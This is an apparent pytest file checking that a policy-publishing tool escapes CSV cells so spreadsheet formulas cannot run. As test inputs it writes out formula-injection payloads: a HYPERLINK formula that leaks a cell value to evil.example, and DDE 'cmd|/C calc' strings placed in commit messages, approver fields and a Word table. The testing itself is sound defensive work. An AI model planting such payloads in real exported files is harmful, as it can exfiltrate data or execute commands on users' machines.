"""Every CSV policypress writes is data, never a formula: a cell that begins with `=`, `+`, `-`,
`@`, a tab or a carriage return gets a leading `'` (OWASP's rule), whatever the text came from:
git (approve --by, --minute, a Change-summary trailer), a clause's text, or a Word file's version
table."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

from docx import Document as open_docx

from tests.conftest import IDENTITY, REPO, SECTION, Git, run_cli, write_content
from tests.wordfiles import council_code

TODAY = {"SOURCE_DATE_EPOCH": "1795000000", **IDENTITY}  # 19 November 2026
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cabinet")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert not [c for row in rows for c in row if c.startswith(STARTS)], rows
    return rows


def test_history_csv_quotes_approve_by_minute_and_change_summaries(tmp_path: Path):
    write_content(tmp_path)
    git = Git(tmp_path)
    git.commit("Add the example policy", "@SUM(1+1)*cmd|' /C calc'!A0")
    git.consult()
    approved = run_cli(
        "approve",
        "example",
        "--by",
        LINK,
        "--date",
        "2026-03-01",
        "--minute",
        "+1 Cabinet item 7",
        cwd=tmp_path,
        env=TODAY,
    )
    assert approved.returncode == 0, approved.stderr
    shown = run_cli("history", "example", "--format", "csv", cwd=tmp_path, env=TODAY)
    assert shown.returncode == 0, shown.stderr
    rows = _cells(shown.stdout)
    assert rows[1][2:] == [
        "'" + LINK,
        "'+1 Cabinet item 7",
        "5 January 2026: @SUM(1+1)*cmd|' /C calc'!A0 (Siân Öztürk)",  # a summary never leads
    ]


def test_history_csv_quotes_who_approved_in_an_imported_word_table(tmp_path: Path):
    git = Git(tmp_path)
    (tmp_path / "content").mkdir()
    shutil.copy2(REPO / "content" / "standards.yaml", tmp_path / "content" / "standards.yaml")
    source = council_code(tmp_path / "code.docx")
    docx = open_docx(str(source))
    approved_by = next(r for t in docx.tables for r in t.rows if r.cells[0].text == "Approved by")
    approved_by.cells[1].text = "-2+3+cmd|' /C calc'!A0"
    docx.save(str(source))
    run_cli("import", str(source), "--id", "code", "--content", "content", cwd=tmp_path)
    source.unlink()
    history = (tmp_path / "content/code/history-before-git.yaml").read_text("utf-8")
    assert "-2+3+cmd" in history
    git.commit("Import the code", "Imported from the Word version approved by Cabinet.")
    shown = run_cli(
        "history", "code", "--content", "content", "--format", "csv", cwd=tmp_path, env=TODAY
    )
    assert shown.returncode == 0, shown.stderr
    assert "'-2+3+cmd|' /C calc'!A0" in [c for row in _cells(shown.stdout) for c in row]


def test_diff_csv_quotes_clause_text(tmp_path: Path):
    old, new = tmp_path / "old", tmp_path / "new"
    write_content(old)
    write_content(
        new, {"example/sections/one.yaml": SECTION.replace("Staff must be honest.", '"- 5% =A1"')}
    )
    done = run_cli(
        "diff",
        "example",
        "--from-path",
        str(old / "content"),
        "--to-path",
        str(new / "content"),
        "--format",
        "csv",
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stderr
    rows = _cells(done.stdout)
    assert done.stdout.startswith("\ufeff")  # the byte order mark Excel needs, then the header
    assert "Where" in rows[0]
    wording = [rows[0].index("Current wording"), rows[0].index("Proposed wording")]
    assert [[row[i] for i in wording] for row in rows[1:]] == [
        ["Staff must be honest.", "'- 5% =A1"]
    ]


def test_the_built_changes_csv_quotes_clause_text(tmp_path: Path):
    write_content(tmp_path)
    git = Git(tmp_path)
    git.commit("Add the example policy", "First version.")
    git.consult()
    approved = run_cli(
        "approve", "example", "--by", "Cabinet", "--date", "2026-03-01", cwd=tmp_path, env=TODAY
    )
    assert approved.returncode == 0, approved.stderr
    write_content(
        tmp_path,
        {
            "example/sections/one.yaml": SECTION.replace(
                "Staff must be honest.", '"@cmd Staff must."'
            )
        },
    )
    done = run_cli("build", cwd=tmp_path, env=TODAY)
    assert done.returncode == 0, done.stderr
    changes = (tmp_path / "build" / "example" / "changes.csv").read_text("utf-8")
    assert changes.startswith("\ufeff")
    rows = _cells(changes)
    proposed = rows[0].index("Proposed wording")
    assert "'@cmd Staff must." in [row[proposed] for row in rows[1:]]


def test_diff_csv_quotes_a_change_summary_that_describes_a_change(tmp_path: Path):
    write_content(tmp_path)
    git = Git(tmp_path)
    git.commit("Add the example policy", "First version.")
    git.consult()
    approved = run_cli(
        "approve", "example", "--by", "Cabinet", "--date", "2026-03-01", cwd=tmp_path, env=TODAY
    )
    assert approved.returncode == 0, approved.stderr
    write_content(
        tmp_path, {"example/sections/one.yaml": SECTION.replace("honest.", "honest and fair.")}
    )
    git.commit("Say staff must be fair", "=1+2 staff must now be fair")
    done = run_cli("diff", "example", "--format", "csv", cwd=tmp_path, env=TODAY)
    assert done.returncode == 0, done.stderr
    cells = [c for row in _cells(done.stdout) for c in row]
    assert [c for c in cells if "=1+2" in c] == ["'=1+2 staff must now be fair."], cells
